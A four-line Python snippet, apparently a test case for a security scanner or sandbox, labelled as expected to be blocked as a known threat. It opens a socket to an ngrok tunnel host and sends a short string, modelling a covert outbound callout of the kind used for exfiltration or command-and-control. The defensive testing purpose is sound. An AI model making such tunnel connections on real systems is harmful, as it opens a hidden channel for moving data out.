# expect: BLOCKED known_threat
import socket
s = socket.create_connection(("0.tcp.ngrok.io", 14563))
s.sendall(b"hello")
